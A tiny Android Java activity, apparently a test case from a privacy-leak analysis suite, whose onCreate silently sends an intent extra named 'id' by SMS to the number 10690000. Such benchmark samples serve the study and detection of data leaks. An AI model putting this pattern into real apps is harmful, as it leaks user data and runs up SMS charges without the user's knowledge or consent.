package cn.privlens.suite.intent_as_text;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;

public class Detail extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        SmsManager.getDefault().sendTextMessage("10690000", null, "" + getIntent().getStringExtra("id"), null, null);
    }
}
